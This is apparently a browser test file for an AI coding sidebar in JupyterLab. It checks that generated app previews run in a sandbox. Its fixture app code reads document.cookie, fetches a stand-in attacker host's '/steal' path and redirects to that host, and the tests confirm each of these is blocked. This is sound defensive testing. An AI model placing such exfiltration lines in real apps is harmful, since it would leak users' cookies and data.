"""Vibe coding in the sidebar (Chromium, real JupyterLab): build an app, change it, run it from the
app route in the preview and in its own tab, look at the versions, diff, revert, download."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any, Iterator

import pytest

from tests.browser.sidebar import open_project, send
from tests.fakes.model_server import FakeModelServer, Reply
from tests.fakes.web_host import WebHost

APP_JS = """import { label } from './lib/label.js';
const show = (id, text) => { document.getElementById(id).textContent = text; };
show('out', label());
show('cdn', window.CDN_LIB ? 'cdn loaded' : 'no cdn');
let cookie;
try { cookie = 'cookie: ' + document.cookie; } catch (e) { cookie = 'cookie blocked'; }
show('cookie', cookie);
fetch('{ATTACKER}/steal').then(() => 'reached', () => 'blocked').then((t) => show('net', t));
fetch('/api/contents').then((r) => 'api ' + r.status, () => 'api blocked').then((t) => show('api', t));
"""


def first_answer(cdn: str, attacker: str) -> str:
    index = (f'<!doctype html>\n<html><head><script src="{cdn}/lib.js"></script></head>\n<body>\n'
             '<h1 id="title">Counter v1</h1>\n<p id="out">not run</p><p id="cdn"></p><p id="cookie"></p>'
             '<p id="net">pending</p><p id="api">pending</p>\n<script type="module" src="app.js"></script>\n'
             "</body></html>")
    return (f"Your app:\n\n```html title=index.html\n{index}\n```\n\n"
            f"```js title=app.js\n{APP_JS.replace('{ATTACKER}', attacker)}```\n\n"
            "```js title=lib/label.js\nexport const label = () => 'module imported';\n```\n")


SECOND = ('Renamed.\n\n<FILE_EDIT path="index.html">\n<<<<<<< SEARCH\n<h1 id="title">Counter v1</h1>\n=======\n'
          '<h1 id="title">Counter v2</h1>\n>>>>>>> REPLACE\n</FILE_EDIT>\n')


@pytest.fixture
def hosts(lab: Any) -> Iterator[tuple[WebHost, WebHost]]:
    """A stand-in CDN (added to preview.cdns in the lab's config.yaml) and an attacker's host."""
    config = Path(lab.home) / "config.yaml"
    with WebHost({"/lib.js": ("text/javascript", "window.CDN_LIB = true;")}) as cdn, WebHost() as attacker:
        config.write_text(f"preview: {{network: cdn, cdns: ['{cdn.url}']}}\n", encoding="utf-8")
        try:
            yield cdn, attacker
        finally:
            config.unlink()


def answered(panel: Any, count: int = 1) -> None:
    """Wait until `count` answers have ended; each must be complete (else its text says why)."""
    ended = panel.locator('.jp-VibeAnswer[data-vibe-status]:not([data-vibe-status="streaming"])')
    ended.nth(count - 1).wait_for(timeout=60_000)
    for answer in ended.all():
        assert answer.get_attribute("data-vibe-status") == "complete", answer.inner_text()


def expect_app(frame: Any, title: str) -> None:
    frame.locator("#title", has_text=title).wait_for()
    frame.locator("#net", has_text="blocked").wait_for()
    frame.locator("#api", has_text="api blocked").wait_for()
    assert frame.locator("#out").inner_text() == "module imported"  # app.js imported lib/label.js
    assert frame.locator("#cdn").inner_text() == "cdn loaded"  # the allow-listed host's script ran
    assert frame.locator("#cookie").inner_text() == "cookie blocked"  # an opaque origin has no cookies


def test_build_change_run_in_a_tab_diff_revert_and_download(page: Any, lab: Any, hosts: tuple[WebHost, WebHost],
                                                           browser_fake_model: FakeModelServer) -> None:
    cdn, attacker = hosts
    browser_fake_model.reset()
    browser_fake_model.enqueue(Reply(text=first_answer(cdn.url, attacker.url)), Reply(text=SECOND))
    panel = open_project(page, lab, "counter-app")

    send(panel, "Build a counter app")
    answered(panel)
    panel.locator('.jp-VibeVersions-list li[data-vibe-version="1"]').wait_for(state="attached")
    panel.locator(".jp-VibeFiles-list li", has_text="index.html").get_by_role("button", name="Preview").click()
    frame = panel.locator("iframe.jp-VibePreview-frame")
    frame.wait_for()
    assert frame.get_attribute("sandbox") == "allow-scripts"
    expect_app(page.frame_locator("iframe.jp-VibePreview-frame"), "Counter v1")

    send(panel, "Call it v2")
    answered(panel, 2)
    panel.locator('.jp-VibeVersions-list li[data-vibe-version="2"]').wait_for(state="attached")
    expect_app(page.frame_locator("iframe.jp-VibePreview-frame"), "Counter v2")  # the preview reloaded

    # Full size in its own tab: still an opaque origin under the route's sandbox CSP.
    with page.context.expect_page() as opened:
        panel.get_by_role("button", name="Open in new tab", exact=True).click()
    tab = opened.value
    tab.wait_for_load_state()
    assert "/app/@" in tab.url
    expect_app(tab.main_frame, "Counter v2")
    assert tab.evaluate("() => String(window.origin)") == "null"
    tab.close()
    assert not [h for h in attacker.hits if "steal" in h]

    # Versions: the diff of version 2, then Revert to version 1 changes what the preview shows.
    panel.locator(".jp-VibeVersions summary").click()
    panel.get_by_role("button", name="Diff version 2", exact=True).click()
    diff = panel.locator('.jp-VibeDiff[data-vibe-diff="1-2"]')
    diff.wait_for()
    assert '-<h1 id="title">Counter v1</h1>' in diff.inner_text()
    assert '+<h1 id="title">Counter v2</h1>' in diff.inner_text() and "label.js" not in diff.inner_text()
    panel.get_by_role("button", name="Revert to version 1", exact=True).click()
    panel.locator('.jp-VibeVersions-list li[data-vibe-version="3"]').wait_for(state="attached")
    assert "revert to version 1" in panel.locator('li[data-vibe-version="3"]').inner_text()
    expect_app(page.frame_locator("iframe.jp-VibePreview-frame"), "Counter v1")

    with page.expect_download() as download:
        panel.get_by_role("button", name="Download", exact=True).click()
    data = Path(download.value.path()).read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert sorted(archive.namelist()) == ["app.js", "index.html", "lib/label.js"]
        assert "Counter v1" in archive.read("index.html").decode()


def test_a_preview_that_navigates_away_is_replaced_by_a_notice(page: Any, lab: Any, hosts: tuple[WebHost, WebHost],
                                                               browser_fake_model: FakeModelServer) -> None:
    _, attacker = hosts
    browser_fake_model.reset()
    page_html = (f"<!doctype html><p id=p>here</p><script>setTimeout(() => location.href = '{attacker.url}/away', 300)"
                 "</script>")
    browser_fake_model.enqueue(Reply(text=f"```html title=index.html\n{page_html}\n```"))
    panel = open_project(page, lab, "runaway-app")
    send(panel, "A page")
    answered(panel)
    panel.get_by_role("button", name="Preview", exact=True).first.click()
    notice = panel.locator('[data-vibe-preview="navigated"]')
    notice.wait_for(timeout=15_000)
    assert "stopped" in notice.inner_text() and panel.locator("iframe.jp-VibePreview-frame").count() == 0
